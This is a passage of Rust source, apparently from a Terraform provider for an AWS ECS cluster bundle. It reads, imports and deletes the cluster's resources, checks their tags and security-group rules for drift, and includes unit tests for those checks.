    let mut objects: Vec<(&aws_tags::Tags, aws_tags::Tags)> = Vec::new();
    if let Some(cl) = &o.cluster {
        objects.push((&cl.tags, owner()));
    }
    if let Some(r) = &o.role {
        objects.push((&r.tags, owner()));
    }
    if let Some(g) = &o.alb_group {
        objects.push((&g.tags, named(&names.alb_security_group)));
    }
    if let Some(g) = &o.instance_group {
        objects.push((&g.tags, named(&names.instance_security_group)));
    }
    if let Some(t) = &o.template {
        objects.push((&t.instance_tags, owner()));
        // DescribeTags cannot tell a template that is gone from one without tags.
        if let Some(tags) = &o.template_tags {
            objects.push((tags, named(&names.launch_template)));
        }
    }
    if let Some(g) = &o.group {
        let mut fixed = named(&bp::instance_name(&name));
        fixed.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
        objects.push((&g.tags, fixed));
    }
    if let Some(cp) = &o.capacity_provider {
        objects.push((&cp.tags, owner()));
    }
    for t in o.lb_tags.values() {
        objects.push((t, owner()));
    }
    let desired: aws_tags::Tags = fields::string_map(state, "tags_all")
        .known()
        .map(|m| {
            m.iter()
                .filter_map(|(k, v)| Some((k.clone(), v.known()?.clone())))
                .collect()
        })
        .unwrap_or_default();
    let (user, managed) = tags_seen(&desired, &super::schema::managed_tags(&name), &objects);
    set(state, "managed_tags", fields::string_map_value(&managed));
    if user != desired {
        let own: aws_tags::Tags = user
            .iter()
            .filter(|(k, v)| default_tags.get(*k) != Some(*v))
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect();
        set(state, "tags_all", fields::string_map_value(&user));
        set(
            state,
            "tags",
            if own.is_empty() {
                Value::Null
            } else {
                fields::string_map_value(&own)
            },
        );
    }
}

/// An observed group's rules as its ingress attribute shows them; the load balancer's group is
/// named by the attribute that holds its ID.
fn ingress(
    group: Option<&security_group::ObservedSecurityGroup>,
    alb_group_id: Option<&str>,
) -> Value {
    match group {
        Some(g) => super::schema::ingress_value(g.rules.iter().map(|r| {
            let source = if Some(r.source.as_str()) == alb_group_id {
                super::schema::ALB_GROUP_SOURCE.to_owned()
            } else {
                r.source.clone()
            };
            (r.protocol.clone(), r.from_port, r.to_port, source)
        })),
        None => Value::Null,
    }
}

/// An observed group's egress rules as its egress attribute shows them.
fn egress(group: Option<&security_group::ObservedSecurityGroup>) -> Value {
    match group {
        Some(g) => super::schema::egress_value(
            g.egress
                .iter()
                .map(|r| (r.protocol.clone(), r.from_port, r.to_port, r.source.clone())),
        ),
        None => Value::Null,
    }
}

/// The `Name` tags of the security groups, the launch template and the Auto Scaling group as
/// `name_tags` shows them; `None` when none of them exists.
fn name_tags(o: &Observed) -> Option<aws_tags::Tags> {
    if o.alb_group.is_none()
        && o.instance_group.is_none()
        && o.template_tags.is_none()
        && o.group.is_none()
    {
        return None;
    }
    let name = |tags: Option<&aws_tags::Tags>| {
        tags.and_then(|t| t.get("Name"))
            .cloned()
            .unwrap_or_else(|| schema::NONE.to_owned())
    };
    Some(schema::name_tags(
        name(o.alb_group.as_ref().map(|g| &g.tags)),
        name(o.instance_group.as_ref().map(|g| &g.tags)),
        name(o.template_tags.as_ref()),
        name(o.group.as_ref().map(|g| &g.tags)),
    ))
}

/// An ID as the settings attributes show it: `placeholder` when it is the cluster's own object.
fn own_or_id(id: &str, own: Option<&str>, placeholder: &str) -> String {
    if Some(id) == own {
        placeholder.to_owned()
    } else {
        id.to_owned()
    }
}

/// The load balancer's fixed settings as `load_balancer_settings` shows them.
fn load_balancer_settings(o: &Observed, alb_group_id: Option<&str>) -> Option<aws_tags::Tags> {
    let lb = o.lb.as_ref()?;
    let listener = |l: Option<&load_balancer::ObservedListener>| {
        l.map_or_else(
            || schema::NONE.to_owned(),
            |l| schema::listener_text(&l.protocol, l.port, &l.default_actions),
        )
    };
    Some(schema::load_balancer_settings(
        load_balancer::attribute_on(&o.lb_attributes, load_balancer::DROP_INVALID_HEADER_FIELDS),
        schema::ids_text(
            &lb.security_group_ids,
            alb_group_id,
            schema::ALB_GROUP_SOURCE,
        ),
        listener(o.http.as_ref()),
        listener(o.https.as_ref()),
        schema::other_listeners_text(
            o.other_listeners
                .iter()
                .map(|l| (l.port, listener(Some(l))))
                .collect(),
        ),
    ))
}

/// The group's template binding and the cluster's capacity providers as `capacity_binding`
/// shows them.
fn capacity_binding(o: &Observed) -> Option<aws_tags::Tags> {
    if o.group.is_none() && o.cluster.is_none() && o.capacity_provider.is_none() {
        return None;
    }
    let own_template = o.template.as_ref().map(|t| t.id.as_str());
    let (template, protection) = match &o.group {
        Some(g) => (
            schema::template_binding_text(
                g.launch_template_id
                    .as_deref()
                    .map(|id| own_or_id(id, own_template, schema::LAUNCH_TEMPLATE_SOURCE))
                    .as_deref(),
                g.launch_template_version.as_deref(),
            ),
            g.protected_from_scale_in.to_string(),
        ),
        None => (schema::NONE.to_owned(), schema::NONE.to_owned()),
    };
    let (providers, strategy) = match &o.cluster {
        Some(cl) => (
            schema::names_text(&cl.capacity_providers),
            schema::strategy_text(&cl.default_strategy_items),
        ),
        None => (schema::NONE.to_owned(), schema::NONE.to_owned()),
    };
    let provider_group = match &o.capacity_provider {
        Some(cp) => own_or_id(
            &cp.auto_scaling_group_arn,
            o.group.as_ref().map(|g| g.arn.as_str()),
            schema::AUTO_SCALING_GROUP_SOURCE,
        ),
        None => schema::NONE.to_owned(),
    };
    Some(schema::capacity_binding(
        template,
        protection,
        providers,
        strategy,
        provider_group,
    ))
}

/// The instance role and profile as `instance_role_settings` shows them.
fn instance_role_settings(o: &Observed) -> Option<aws_tags::Tags> {
    if o.role.is_none() && o.profile_roles.is_none() {
        return None;
    }
    let none = || schema::NONE.to_owned();
    Some(schema::instance_role_settings(
        o.role
            .as_ref()
            .and_then(|r| r.trust_policy.as_deref())
            .map_or_else(none, iam_role::normalized_policy),
        o.role_policies
            .as_deref()
            .map_or_else(none, schema::policies_text),
        o.role_inline_policies
            .as_deref()
            .map_or_else(none, schema::names_text),
        o.profile_roles
            .as_deref()
            .map_or_else(none, schema::names_text),
    ))
}

/// A launch template version as `launch_template_settings` shows it; the instances' security
/// group is named by the attribute that holds its ID.
fn template_settings(
    t: &launch_template::ObservedTemplate,
    instance_group_id: Option<&str>,
) -> aws_tags::Tags {
    let mut interfaces: Vec<String> = t
        .network_interfaces
        .iter()
        .map(|n| {
            schema::interface_text(
                n.device_index,
                n.associate_public_ip,
                schema::ids_text(
                    &n.security_groups,
                    instance_group_id,
                    schema::INSTANCE_GROUP_SOURCE,
                ),
            )
        })
        .collect();
    if !t.security_groups.is_empty() {
        interfaces.push(format!(
            "security_groups={}",
            schema::ids_text(
                &t.security_groups,
                instance_group_id,
                schema::INSTANCE_GROUP_SOURCE
            )
        ));
    }
    let devices: Vec<String> = t
        .block_devices
        .iter()
        .map(|b| schema::block_device_text(&b.device_name, b.volume_type.as_deref(), b.encrypted))
        .collect();
    let listed = |items: Vec<String>| {
        if items.is_empty() {
            schema::NONE.to_owned()
        } else {
            items.join("; ")
        }
    };
    schema::launch_template_settings(
        t.user_data.clone().unwrap_or_default(),
        listed(interfaces),
        listed(devices),
        t.instance_profile
            .clone()
            .unwrap_or_else(|| schema::NONE.to_owned()),
        t.key_name
            .clone()
            .unwrap_or_else(|| schema::NONE.to_owned()),
    )
}

/// What `template_settings` reads from a version made from `spec`.
fn expected_template_settings(spec: &bp::LaunchTemplateSpec) -> aws_tags::Tags {
    schema::launch_template_settings(
        spec.user_data.clone(),
        schema::interface_text(
            Some(0),
            Some(spec.associate_public_ip),
            schema::INSTANCE_GROUP_SOURCE.to_owned(),
        ),
        schema::block_device_text(
            &spec.root_device_name,
            Some(&spec.root_volume_type),
            Some(spec.root_volume_encrypted),
        ),
        spec.instance_profile_name.clone(),
        schema::NONE.to_owned(),
    )
}

fn map_or_null(map: Option<aws_tags::Tags>) -> Value {
    map.map_or(Value::Null, |m| fields::string_map_value(&m))
}

/// Writes what AWS says over `state`; objects that are gone leave their IDs null so the next
/// plan recreates them.
fn apply_observed(state: &mut Value, o: &Observed) {
    let prior_list = |s: &Value, a: &str| known_strings(&fields::string_list(s, a));
    if let Some(cl) = &o.cluster {
        set(state, "arn", Value::string(cl.arn.clone()));
        set(
            state,
            "container_insights",
            Value::bool(cl.container_insights),
        );
    }
    set(
        state,
        "instance_role_arn",
        opt_string(o.role.as_ref().map(|r| &r.arn)),
    );
    let alb_group_id = o.alb_group.as_ref().map(|g| g.id.clone());
    set(
        state,
        "alb_security_group_id",
        opt_string(alb_group_id.as_ref()),
    );
    set(
        state,
        "instance_security_group_id",
        opt_string(o.instance_group.as_ref().map(|g| &g.id)),
    );
    set(
        state,
        "alb_security_group_ingress",
        ingress(o.alb_group.as_ref(), alb_group_id.as_deref()),
    );
    set(
        state,
        "instance_security_group_ingress",
        ingress(o.instance_group.as_ref(), alb_group_id.as_deref()),
    );
    set(
        state,
        "alb_security_group_egress",
        egress(o.alb_group.as_ref()),
    );
    set(
        state,
        "instance_security_group_egress",
        egress(o.instance_group.as_ref()),
    );
    set(state, "name_tags", map_or_null(name_tags(o)));
    set(
        state,
        "load_balancer_settings",
        map_or_null(load_balancer_settings(o, alb_group_id.as_deref())),
    );
    set(state, "capacity_binding", map_or_null(capacity_binding(o)));
    set(
        state,
        "instance_role_settings",
        map_or_null(instance_role_settings(o)),
    );
    let instance_group_id = o.instance_group.as_ref().map(|g| g.id.as_str());
    set(
        state,
        "launch_template_settings",
        map_or_null(
            o.template
                .as_ref()
                .map(|t| template_settings(t, instance_group_id)),
        ),
    );
    match &o.template {
        Some(t) => {
            set(state, "launch_template_id", Value::string(t.id.clone()));
            set(state, "ami_id", Value::string(t.image_id.clone()));
            set(
                state,
                "root_volume_size",
                Value::number(i64::from(t.root_volume_size)),
            );
            set(state, "ebs_kms_key_id", opt_string(t.kms_key_id.as_ref()));
            set(
                state,
                "instance_metadata_options",
                Value::string(super::schema::metadata_options(
                    t.http_tokens_required,
                    t.hop_limit,
                )),
            );
        }
        None => set(state, "launch_template_id", Value::Null),
    }
    match &o.group {
        Some(g) => {
            let name = fields::string(state, "name")
                .known()
                .cloned()
                .unwrap_or_default();
            set(
                state,
                "autoscaling_group_name",
                Value::string(bp::names(&name).auto_scaling_group),
            );
            set(state, "min_size", Value::number(i64::from(g.min_size)));
            set(state, "max_size", Value::number(i64::from(g.max_size)));
            set(
                state,
                "on_demand_base_capacity",
                Value::number(i64::from(g.on_demand_base_capacity)),
            );
            set(
                state,
                "on_demand_percentage_above_base",
                Value::number(i64::from(g.on_demand_percentage_above_base)),
            );
            set(
                state,
                "spot_allocation_strategy",
                Value::string(g.spot_allocation_strategy.clone()),
            );
            set(state, "instance_types", strings(&g.instance_types));
            let private = same_set_keep_order(
                prior_list(state, "private_subnet_ids"),
                g.subnet_ids.clone(),
            );
            set(state, "private_subnet_ids", strings(&private));
        }
        None => set(state, "autoscaling_group_name", Value::Null),
    }
    match &o.capacity_provider {
        Some(cp) => {
            let name = fields::string(state, "name")
                .known()
                .cloned()
                .unwrap_or_default();
            set(
                state,
                "capacity_provider_name",
                Value::string(bp::names(&name).capacity_provider),
            );
            set(
                state,
                "target_capacity",
                Value::number(i64::from(cp.target_capacity)),
            );
            set(
                state,
                "capacity_provider_settings",
                Value::string(super::schema::capacity_provider_settings(
                    cp.managed_scaling,
                    cp.managed_termination_protection,
                    cp.managed_draining,
                )),
            );
        }
        None => {
            set(state, "capacity_provider_name", Value::Null);
            set(state, "capacity_provider_settings", Value::Null);
        }
    }
    match &o.lb {
        Some(lb) => {
            set(state, "alb_arn", Value::string(lb.arn.clone()));
            set(state, "alb_dns_name", Value::string(lb.dns_name.clone()));
            set(state, "alb_zone_id", Value::string(lb.zone_id.clone()));
            set(state, "vpc_id", Value::string(lb.vpc_id.clone()));
            let public = same_set_keep_order(
                prior_list(state, "public_subnet_ids"),
                lb.subnet_ids.clone(),
            );
            set(state, "public_subnet_ids", strings(&public));
        }
        None => {
            for a in ["alb_arn", "alb_dns_name", "alb_zone_id"] {
                set(state, a, Value::Null);
            }
        }
    }
    if let Some(p) = o.deletion_protection {
        set(state, "deletion_protection", Value::bool(p));
    }
    match &o.https {
        Some(l) => {
            set(state, "https_listener_arn", Value::string(l.arn.clone()));
            if let Some(p) = &l.ssl_policy {
                set(state, "ssl_policy", Value::string(p.clone()));
            }
            if let Some(cert) = &l.certificate_arn {
                set(state, "certificate_arn", Value::string(cert.clone()));
            }
        }
        None => set(state, "https_listener_arn", Value::Null),
    }
}

pub async fn read(ctx: &Context, state: Value) -> ReadOutput {
    let clients = match ctx.clients().await {
        Ok(c) => c,
        Err(diagnostics) => {
            return ReadOutput {
                new_state: state,
                private: Vec::new(),
                diagnostics,
            };
        }
    };
    let Some(name) = fields::string(&state, "name").known().cloned() else {
        return ReadOutput {
            new_state: state,
            private: Vec::new(),
            diagnostics: Diagnostics::new(),
        };
    };
    let vpc = fields::string(&state, "vpc_id").known().cloned();
    let template = fields::string(&state, "launch_template_id")
        .known()
        .cloned();
    match observe(clients, &name, vpc.as_deref(), template.as_deref()).await {
        Ok(o) if o.cluster.is_none() && o.group.is_none() && o.lb.is_none() && o.role.is_none() => {
            // Everything is gone: Terraform plans to create it again.
            ReadOutput {
                new_state: Value::Null,
                private: Vec::new(),
                diagnostics: Diagnostics::new(),
            }
        }
        Ok(o) => {
            let mut new_state = state;
            apply_observed(&mut new_state, &o);
            apply_observed_tags(&mut new_state, &o, &default_tags(ctx));
            ReadOutput {
                new_state,
                private: Vec::new(),
                diagnostics: Diagnostics::new(),
            }
        }
        Err(e) => ReadOutput {
            new_state: state,
            private: Vec::new(),
            diagnostics: engine::diagnostics(TYPE_NAME, &[e]),
        },
    }
}

pub async fn import(ctx: &Context, schema_defaults: Value, name: String) -> ImportOutput {
    let clients = match ctx.clients().await {
        Ok(c) => c,
        Err(diagnostics) => {
            return ImportOutput {
                state: Value::Null,
                private: Vec::new(),
                diagnostics,
            };
        }
    };
    let o = match observe(clients, &name, None, None).await {
        Ok(o) => o,
        Err(e) => {
            return ImportOutput {
                state: Value::Null,
                private: Vec::new(),
                diagnostics: engine::diagnostics(TYPE_NAME, &[e]),
            };
        }
    };
    let Some(cluster) = &o.cluster else {
        return ImportOutput {
            state: Value::Null,
            private: Vec::new(),
            diagnostics: Diagnostic::error(
                "Cluster not found",
                format!("No active ECS cluster named {name:?} exists in this account and region."),
            )
            .into(),
        };
    };
    let mut state = schema_defaults;
    set(&mut state, "name", Value::string(name.clone()));
    set(&mut state, "id", Value::string(name.clone()));
    // Tags: everything but the ownership tag; the provider's default tags are not the resource's own.
    let mut tags_all = cluster.tags.clone();
    tags_all.remove(OWNER_TAG);
    let default_tags = default_tags(ctx);
    let own: BTreeMap<String, String> = tags_all
        .iter()
        .filter(|(k, v)| default_tags.get(*k) != Some(*v))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    set(&mut state, "tags_all", fields::string_map_value(&tags_all));
    set(
        &mut state,
        "tags",
        if own.is_empty() {
            Value::Null
        } else {
            fields::string_map_value(&own)
        },
    );
    apply_observed(&mut state, &o);
    apply_observed_tags(&mut state, &o, &default_tags);
    // Imported state is wholly known: what AWS did not report is null.
    if let Value::Object(attrs) = &mut state {
        for v in attrs.values_mut() {
            if !v.is_known() {
                *v = Value::Null;
            }
        }
    }
    ImportOutput {
        state,
        private: Vec::new(),
        diagnostics: Diagnostics::new(),
    }
}

/// Polls `done` until it returns true or the wait is over; the error names what is blocking.
async fn wait_until<F, Fut>(
    call: &CallContext,
    budget: Budget,
    what: &str,
    mut done: F,
) -> Result<(), AwsError>
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Result<bool, AwsError>>,
{
    let start = Instant::now();
    let mut delay = Duration::from_millis(250);
    loop {
        if done().await? {
            return Ok(());
        }
        if budget.remaining().is_zero() {
            return Err(AwsError::new(
                format!("wait for {what}"),
                format!(
                    "still not done after {} s; the {operation} timeout was reached (raise timeouts.{operation} to wait longer)",
                    start.elapsed().as_secs(),
                    operation = budget.operation,
                ),
            ));
        }
        tokio::select! {
            _ = call.cancel.cancelled() => return Err(AwsError::new(format!("wait for {what}"), "cancelled by Terraform")),
            _ = tokio::time::sleep(delay) => {}
        }
        delay = (delay * 2).min(Duration::from_secs(10));
    }
}

/// Deletes everything in the safe order. Returns the remaining state on failure.
pub async fn delete(ctx: &Context, call: &CallContext, prior: &Value) -> ApplyOutput {
    if fields::boolean(prior, "deletion_protection").known() == Some(&true) {
        return fail(
            prior,
            Diagnostic::error(
                "Cluster is protected from deletion",
                "deletion_protection is true, so nothing was deleted. Set deletion_protection = false, run terraform apply, then destroy again.",
            )
            .into(),
        );
    }
    let clients = match ctx.clients().await {
        Ok(c) => c,
        Err(d) => return fail(prior, d),
    };
    let Some(name) = fields::string(prior, "name").known().cloned() else {
        return ApplyOutput {
            new_state: Value::Null,
            private: Vec::new(),
            diagnostics: Diagnostics::new(),
        };
    };
    let budget = Budget::new("delete", super::config::timeout(prior, "delete"));
    match delete_all(clients, call, budget, &name, prior).await {
        Ok(()) => ApplyOutput {
            new_state: Value::Null,
            private: Vec::new(),
            diagnostics: Diagnostics::new(),
        },
        Err(e) => fail(prior, engine::diagnostics(TYPE_NAME, &[e])),
    }
}

async fn delete_all(
    c: &Clients,
    call: &CallContext,
    budget: Budget,
    name: &str,
    prior: &Value,
) -> Result<(), AwsError> {
    let names = bp::names(name);
    // 1. Detach the capacity provider, then delete it: a provider still associated with the
    //    cluster cannot be deleted.
    if ecs_cluster::describe(c, &names.cluster).await?.is_some() {
        ecs_cluster::set_capacity_provider(c, &names.cluster, None).await?;
    }
    capacity_provider::delete(c, &names.capacity_provider).await?;
    // 2. The group with its scale-in-protected instances (force delete), then its template.
    auto_scaling_group::delete(c, &names.auto_scaling_group).await?;
    wait_until(
        call,
        budget,
        "the Auto Scaling group to be deleted",
        || async {
            Ok(auto_scaling_group::describe(c, &names.auto_scaling_group)
                .await?
                .is_none())
        },
    )
    .await?;
    let template = match fields::string(prior, "launch_template_id").known().cloned() {
        Some(id) => Some(id),
        None => launch_template::find(c, &names.launch_template).await?,
    };
    if let Some(id) = template {
        launch_template::delete(c, &id).await?;
    }
    // 3. Listeners and the load balancer.
    if let Some(lb) = load_balancer::describe(c, &names.load_balancer).await? {
        // The state says deletion protection is off; make AWS agree before deleting.
        if load_balancer::deletion_protection(c, &lb.arn).await? {
            load_balancer::set_deletion_protection(c, &lb.arn, false).await?;
        }
        load_balancer::delete(c, &lb.arn).await?;
        wait_until(call, budget, "the load balancer to be deleted", || async {
            Ok(load_balancer::describe(c, &names.load_balancer)
                .await?
                .is_none())
        })
        .await?;
    }
    // 4. Security groups, once no network interface uses them (instances first: it references
    //    the load balancer's group).
    if let Some(vpc) = fields::string(prior, "vpc_id").known() {
        for group in [&names.instance_security_group, &names.alb_security_group] {
            if let Some(found) = security_group::find(c, vpc, group).await? {
                let id = found.id;
                wait_until(
                    call,
                    budget,
                    &format!("security group {group} to be free of network interfaces"),
                    || security_group::delete(c, &id),
                )
                .await?;
            }
        }
    }
    // 5. The cluster, once its instances have deregistered, then the instance role.
    if ecs_cluster::describe(c, &names.cluster).await?.is_some() {
        wait_until(
            call,
            budget,
            "the container instances to leave the cluster",
            || async { Ok(ecs_cluster::container_instance_count(c, &names.cluster).await? == 0) },
        )
        .await?;
    }
    ecs_cluster::delete(c, &names.cluster).await?;
    iam_role::delete(c, &names.instance_profile, &names.instance_role).await?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tags(pairs: &[(&str, &str)]) -> aws_tags::Tags {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    fn input() -> ClusterInput {
        ClusterInput {
            name: "prod".into(),
            vpc_id: "vpc-1".into(),
            public_subnet_ids: vec!["subnet-a".into(), "subnet-b".into()],
            private_subnet_ids: vec!["subnet-c".into(), "subnet-d".into()],
            certificate_arn: "arn:aws:acm:eu-west-1:123456789012:certificate/x".into(),
            ssl_policy: super::super::schema::DEFAULT_SSL_POLICY.into(),
            instance_types: vec!["m6i.large".into()],
            min_size: 2,
            max_size: 10,
            on_demand_base_capacity: 2,
            on_demand_percentage_above_base: 0,
            spot_allocation_strategy: "capacity-optimized".into(),
            target_capacity: 80,
            ami_id: "ami-1".into(),
            root_volume_size: 30,
            ebs_kms_key_id: None,
            container_insights: true,
            deletion_protection: true,
            tags: tags(&[("Team", "core"), ("Name", "mine")]),
        }
    }

    fn managed() -> aws_tags::Tags {
        super::super::schema::managed_tags("prod")
    }

    fn owner() -> aws_tags::Tags {
        tags(&[(OWNER_TAG, "prod")])
    }

    #[test]
    fn tags_seen_equal_the_desired_tags_when_every_object_carries_them() {
        let desired = tags(&[("Team", "core"), ("Name", "mine")]);
        let cluster = tags(&[("Team", "core"), ("Name", "mine"), (OWNER_TAG, "prod")]);
        // The group's Name is the provider's, not the user's; aws: keys are AWS's own.
        let group = tags(&[
            ("Team", "core"),
            ("Name", "prod-ecs-instance"),
            (OWNER_TAG, "prod"),
            (bp::ECS_MANAGED_TAG, "true"),
            ("aws:cloudformation:stack-name", "x"),
        ]);
        let group_fixed = tags(&[
            (OWNER_TAG, "prod"),
            ("Name", "prod-ecs-instance"),
            (bp::ECS_MANAGED_TAG, "true"),
        ]);
        let (user, own) = tags_seen(
            &desired,
            &managed(),
            &[(&cluster, owner()), (&group, group_fixed)],
        );
        assert_eq!(user, desired);
        assert_eq!(own, managed());
    }

    #[test]
    fn tags_seen_show_every_key_changed_added_or_removed_on_any_object() {
        let desired = tags(&[("Team", "core"), ("Env", "prod")]);
        let cluster = tags(&[("Team", "core"), ("Env", "prod"), (OWNER_TAG, "prod")]);
        let group = tags(&[("Team", "rogue"), ("Env", "prod"), (OWNER_TAG, "prod")]);
        let lb = tags(&[("Team", "core"), ("Extra", "x"), (OWNER_TAG, "prod")]);
        let (user, own) = tags_seen(
            &desired,
            &managed(),
            &[(&cluster, owner()), (&group, owner()), (&lb, owner())],
        );
        assert_eq!(user, tags(&[("Team", "rogue"), ("Extra", "x")]));
        assert_eq!(own, managed());
    }

    #[test]
    fn tags_seen_show_a_provider_tag_removed_or_changed() {
        let desired = tags(&[("Team", "core")]);
        let group = tags(&[("Team", "core"), (OWNER_TAG, "prod")]);
        let role = tags(&[("Team", "core"), (OWNER_TAG, "other")]);
        let mut group_fixed = owner();
        group_fixed.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
        let (user, own) = tags_seen(
            &desired,
            &managed(),
            &[(&group, group_fixed), (&role, owner())],
        );
        assert_eq!(user, desired);
        assert_eq!(own, tags(&[(OWNER_TAG, "other")]));
    }

    #[test]
    fn fixed_tags_checked_on_refresh_are_those_the_blueprint_sets() {
        let i = input();
        let group = bp::auto_scaling_group(&i, "lt-1");
        let mut want = i.tags.clone();
        want.insert(OWNER_TAG.into(), "prod".into());
        want.insert("Name".into(), bp::instance_name("prod"));
        want.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
        assert_eq!(group.tags, want);
        let (_, own) = tags_seen(
            &i.tags,
            &managed(),
            &[(&group.tags, {
                let mut f = owner();
                f.insert("Name".into(), bp::instance_name("prod"));
                f.insert(bp::ECS_MANAGED_TAG.into(), "true".into());
                f
            })],
        );
        assert_eq!(own, managed());
    }

    #[test]
    fn planned_fixed_settings_are_what_the_blueprint_builds() {
        let i = input();
        let planned: BTreeMap<&str, Value> = super::super::schema::fixed_settings(Some("prod"))
            .into_iter()
            .collect();
        let lt = bp::launch_template(&i, "prod-ecs-instance", "sg-1");
        assert_eq!(
            planned["instance_metadata_options"],
            Value::string(super::super::schema::metadata_options(
                lt.http_tokens_required,
                lt.http_put_response_hop_limit
            ))
        );
        let cp = bp::capacity_provider(&i, "arn:asg");
        assert_eq!(
            planned["capacity_provider_settings"],
            Value::string(super::super::schema::capacity_provider_settings(
                true,
                cp.managed_termination_protection,
                cp.managed_draining
            ))
        );
        assert_eq!(
            planned["managed_tags"],
            fields::string_map_value(&tags(&[(OWNER_TAG, "prod"), (bp::ECS_MANAGED_TAG, "true")]))
        );
        let without_name: BTreeMap<&str, Value> = super::super::schema::fixed_settings(None)
            .into_iter()
            .collect();
        assert!(
            !without_name["managed_tags"].is_known(),
            "unknown until the name is known"
        );
    }

    fn group(id: &str, rules: &[(&str, i32, i32, &str)]) -> security_group::ObservedSecurityGroup {
        security_group::ObservedSecurityGroup {
            id: id.into(),
            name: id.into(),
            rules: rules
                .iter()
                .map(|(p, f, t, s)| security_group::Rule {
                    protocol: (*p).into(),
                    from_port: *f,
                    to_port: *t,
                    source: (*s).into(),
                })
                .collect(),
            egress: vec![security_group::Rule {
                protocol: "all".into(),
                from_port: -1,
                to_port: -1,
                source: "0.0.0.0/0".into(),
            }],
            tags: BTreeMap::new(),
        }
    }

    #[test]
    fn observed_blueprint_rules_read_as_the_planned_ingress() {
        let alb = group(
            "sg-alb",
            &[
                ("tcp", 443, 443, "::/0"),
                ("tcp", 80, 80, "0.0.0.0/0"),
                ("tcp", 443, 443, "0.0.0.0/0"),
                ("tcp", 80, 80, "::/0"),
            ],
        );
        let instances = group("sg-i", &[("tcp", 32768, 65535, "sg-alb")]);
        let planned: BTreeMap<&str, Value> = super::super::schema::fixed_settings(Some("prod"))
            .into_iter()
            .collect();
        assert_eq!(
            ingress(Some(&alb), Some("sg-alb")),
            planned["alb_security_group_ingress"]
        );
        assert_eq!(
            ingress(Some(&instances), Some("sg-alb")),
            planned["instance_security_group_ingress"]
        );
        assert_eq!(
            planned["instance_security_group_ingress"],
            Value::List(vec![Value::string(
                "tcp 32768-65535 from alb_security_group_id"
            )])
        );
    }

    #[test]
    fn open_egress_reads_as_planned_and_any_other_egress_differently() {
        let planned = schema::planned_egress(&bp::open_egress());
        let g = group("sg-1", &[]);
        assert_eq!(egress(Some(&g)), planned);
        let mut extra = g.clone();
        extra.egress.push(security_group::Rule {
            protocol: "tcp".into(),
            from_port: 22,
            to_port: 22,
            source: "10.0.0.0/8".into(),
        });
        assert_eq!(
            egress(Some(&extra)),
            Value::List(vec![
                Value::string("all to 0.0.0.0/0"),
                Value::string("tcp 22 to 10.0.0.0/8"),
            ])
        );
        let mut none = g;
        none.egress.clear();
        assert_eq!(egress(Some(&none)), Value::List(Vec::new()));
        assert_eq!(egress(None), Value::Null);
    }

    #[test]
    fn name_tags_read_as_planned_and_a_changed_or_missing_name_differently() {
        let names = bp::names("prod");
        let named = |id: &str, name: &str| {
            let mut g = group(id, &[]);
            g.tags.insert("Name".into(), name.into());
            g
        };
        let mut o = Observed {
            alb_group: Some(named("sg-1", &names.alb_security_group)),
            instance_group: Some(named("sg-2", &names.instance_security_group)),
            template_tags: Some(BTreeMap::from([(
                "Name".to_owned(),
                names.launch_template.clone(),
            )])),
            ..observed_binding()
        };
        if let Some(g) = &mut o.group {
            g.tags.insert("Name".into(), bp::instance_name("prod"));
        }
        let want = schema::planned_name_tags("prod");
        assert_eq!(name_tags(&o), Some(want.clone()));
        if let Some(g) = &mut o.alb_group {
            g.tags.insert("Name".into(), "renamed".into());
        }
        if let Some(g) = &mut o.group {
            g.tags.remove("Name");
        }
        let seen = name_tags(&o).expect("names");
        assert_eq!(seen["alb_security_group"], "renamed");
        assert_eq!(seen["auto_scaling_group"], "none");
        assert_eq!(seen["launch_template"], want["launch_template"]);
        assert_eq!(name_tags(&Observed::default()), None);
    }

    #[test]
    fn an_extra_or_missing_rule_reads_differently_from_the_plan() {
        let instances = group(
            "sg-i",
            &[
                ("tcp", 32768, 65535, "sg-alb"),
                ("tcp", 22, 22, "10.0.0.0/8"),
                ("all", -1, -1, "sg-other"),
            ],
        );
        assert_eq!(
            ingress(Some(&instances), Some("sg-alb")),
            Value::List(vec![
                Value::string("all from sg-other"),
                Value::string("tcp 22 from 10.0.0.0/8"),
                Value::string("tcp 32768-65535 from alb_security_group_id"),
            ])
        );
        let alb = group("sg-alb", &[("tcp", 443, 443, "0.0.0.0/0")]);
        assert_ne!(
            ingress(Some(&alb), Some("sg-alb")),
            super::super::schema::planned_ingress(&bp::alb_ingress())
        );
        assert_eq!(ingress(None, Some("sg-alb")), Value::Null);
    }

    /// A named change to an observed object: the settings key it must show on, and the change.
    type Change<T> = (&'static str, Box<dyn Fn(&mut T)>);

    fn planned_map(attr: &str) -> Value {
        super::super::schema::fixed_settings(Some("prod"))
            .into_iter()
            .find(|(a, _)| *a == attr)
            .map(|(_, v)| v)
            .expect("a fixed setting")
    }

    fn shown(map: Option<aws_tags::Tags>) -> Value {
        map_or_null(map)
    }

    /// What DescribeLaunchTemplateVersions reports for a version made from `spec`.
    fn observed_template(spec: &bp::LaunchTemplateSpec) -> launch_template::ObservedTemplate {
        launch_template::ObservedTemplate {
            id: "lt-1".into(),
            default_version: 1,
            image_id: spec.image_id.clone(),
            http_tokens_required: spec.http_tokens_required,
            hop_limit: spec.http_put_response_hop_limit,
            root_volume_size: spec.root_volume_size,
            root_volume_encrypted: spec.root_volume_encrypted,
            kms_key_id: spec.kms_key_id.clone(),
            instance_tags: spec.tags.clone(),
            user_data: Some(spec.user_data.clone()),
            network_interfaces: vec![launch_template::ObservedInterface {
                device_index: Some(0),
                associate_public_ip: Some(spec.associate_public_ip),
                security_groups: vec![spec.security_group_id.clone()],
            }],
            security_groups: Vec::new(),
            block_devices: vec![launch_template::ObservedBlockDevice {
                device_name: spec.root_device_name.clone(),
                volume_type: Some(spec.root_volume_type.clone()),
                encrypted: Some(spec.root_volume_encrypted),
            }],
            instance_profile: Some(spec.instance_profile_name.clone()),
            key_name: None,
        }
    }

    #[test]
    fn a_template_version_made_from_the_blueprint_reads_as_planned_and_is_not_drifted() {
        let spec = bp::launch_template(&input(), &bp::names("prod").instance_profile, "sg-1");
        let t = observed_template(&spec);
        assert_eq!(
